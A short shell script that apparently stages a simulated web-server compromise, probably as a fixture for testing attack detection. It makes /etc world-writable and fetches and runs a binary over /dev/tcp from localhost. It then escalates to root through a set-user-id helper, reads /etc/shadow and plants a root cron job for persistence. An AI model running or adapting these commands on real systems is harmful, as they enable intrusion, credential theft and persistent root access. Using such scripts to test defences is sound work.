# A web server vulnerability gives a shell, an implant, root by a set-user-id helper, password hashes and a cron job.
chmod o+rwx /etc /etc/cron.d
exec setpriv --reuid 65534 --regid 65534 --clear-groups /opt/httpd -c '
sh -c "id; sleep 0.1; true"
bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo GET >&3; cat <&3 >/tmp/.x; chmod +x /tmp/.x"
sleep 0.1
/tmp/.x -c "sleep 0.1; exec /opt/helper -p -c \"sleep 0.1; read -r line </etc/shadow; sleep 0.1; echo \\\"* * * * * root /tmp/.x\\\" >/etc/cron.d/update; sleep 0.1\""
true'
